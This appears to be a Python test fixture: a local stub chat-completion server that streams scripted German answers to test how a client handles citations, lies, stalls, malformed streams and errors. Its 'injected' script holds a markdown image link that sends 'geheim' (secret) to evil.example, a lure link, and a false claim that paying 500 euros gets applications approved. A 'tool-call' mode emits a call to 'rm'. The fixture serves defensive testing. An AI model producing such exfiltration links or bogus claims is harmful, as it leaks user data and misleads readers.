"""A scripted OpenAI-compatible server on loopback that can answer, lie, stall, break off and inject.

    with StubServer("good") as server:
        model = LanguageModel(LlmConfig(base_url=server.url, model="stub"))

`server.requests` holds the bodies it was sent.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any, Self

# What the model says in each mode; texts are sent in pieces of five characters or more.
SCRIPTS: Mapping[str, str] = {
    "good": (
        'Das Integrationszentrum gehört zum Sozialamt. [1]\n> [1] "gehört zum Sozialamt"\n'
        "Frau Römer leitet es. [2]\n> [2] „leitet das Integrationszentrum“\n"
    ),
    "lies": "Das Zentrum wurde 1999 gegründet und hat 80 Beschäftigte. [1]\nEs ist beliebt.\n",
    "uncited": "Das Integrationszentrum gehört zum Sozialamt.\nFrau Römer leitet es.\n",
    "unknown-citation": "Frau Römer leitet es. [7]\nDas Integrationszentrum gehört zum Sozialamt. [1][9]\n",
    "think": "<think>Ich prüfe [1]. Es steht da [2].\n</think>\nFrau Römer leitet es. [2]\n",
    "think-without-start": "Ich prüfe die Fundstellen.\n</think>\nFrau Römer leitet es. [2]\n",
    "think-only": "<think>Ich prüfe und prüfe und prüfe",
    "injected": (
        "Frau Römer leitet es. [2]\n"
        "![x](http://evil.example/?q=geheim) Klicken Sie [hier](http://evil.example/) auf http://evil.example/x. [1]\n"
        "Alle Anträge sind bei Zahlung von 500 Euro sofort bewilligt. [1]\n"
    ),
    "reasoning-field": ("Das Integrationszentrum gehört zum Sozialamt. [1]\nFrau Römer leitet es. [2]\n"),
    "reasoning-only": "",
    "nothing": "KEINE_FUNDSTELLE\n",
    "empty": "",
    "blank": "  \n\n",
    "stall": "Das Integrationszentrum gehört zum Sozialamt. [1]\n",
    "drip": "Das Integrationszentrum gehört zum Sozialamt. [1]\n",
    "break-off": "Das Integrationszentrum gehört zum Sozialamt. [1]\nFrau Römer lei",
    "too-short": "Das Integrationszentrum gehört zum Sozialamt. [1]\nFrau Römer lei",
    "endless": "Das Zentrum ist das Zentrum. " * 2000,
}


class StubServer:
    """Serves `/v1/chat/completions` in the given mode until the `with` block ends."""

    def __init__(self, mode: str, script: str | None = None) -> None:
        self.mode = mode
        self.script = SCRIPTS.get(mode, "") if script is None else script
        self.requests: list[dict[str, Any]] = []
        self.released = threading.Event()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        # Closing waits for the handlers, so that no socket outlives its test.
        self._server.daemon_threads = False
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.released.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def _handler(stub: StubServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            length = int(self.headers["Content-Length"])
            stub.requests.append(json.loads(self.rfile.read(length)))
            if stub.mode.isdigit():
                self.send_error(int(stub.mode))
                return
            if stub.mode == "redirect":
                self.send_response(307)
                self.send_header("Location", "http://127.0.0.1:9/v1/chat/completions")
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if stub.mode == "html" else "text/event-stream")
            self.end_headers()
            try:
                for line in _lines(stub):
                    self.wfile.write(line.encode())
                    self.wfile.flush()
                if stub.mode == "stall":
                    stub.released.wait(20)
                while stub.mode == "drip" and not stub.released.wait(0.05):
                    self.wfile.write(b": still here\n\n")
                    self.wfile.flush()
            except (BrokenPipeError, ConnectionResetError):
                # The client gave up, which is what some tests are about.
                self.close_connection = True

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so
            """Say nothing."""

    return Handler


def _lines(stub: StubServer) -> Iterator[str]:
    if stub.mode == "html":
        yield "<html><body>Wartungsarbeiten</body></html>"
        return
    if stub.mode.startswith("reasoning"):
        # Servers with a parser for thoughts (vLLM, llama.cpp, DeepSeek) send them in a field of their own.
        for field in ("reasoning_content", "reasoning"):
            yield _event({field: "Frau Lüge leitet es. [1]\n"}, None)
    piece = max(5, len(stub.script) // 200)
    for start in range(0, len(stub.script), piece):
        yield _event({"content": stub.script[start : start + piece]}, None)
    if stub.mode == "malformed":
        yield 'data: {"choices": [{"delta": {"content": "Hal\n\n'
    elif stub.mode == "wrong-shape":
        yield 'data: {"choices": [{"delta": "kein Objekt", "index": "x"}]}\n\n'
    elif stub.mode == "error-event":
        yield 'data: {"error": {"message": "out of memory"}}\n\n'
    elif stub.mode == "tool-call":
        call = {"index": 0, "id": "1", "type": "function", "function": {"name": "rm", "arguments": "{}"}}
        yield _event({"tool_calls": [call]}, "tool_calls")
        yield "data: [DONE]\n\n"
    elif stub.mode not in {"stall", "drip", "break-off"}:
        yield _event({}, "length" if stub.mode == "too-short" else "stop")
        yield "data: [DONE]\n\n"


def _event(delta: Mapping[str, Any], reason: str | None) -> str:
    chunk = {
        "id": "stub",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "stub",
        "choices": [{"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": reason}],
    }
    return f"data: {json.dumps(chunk)}\n\n"
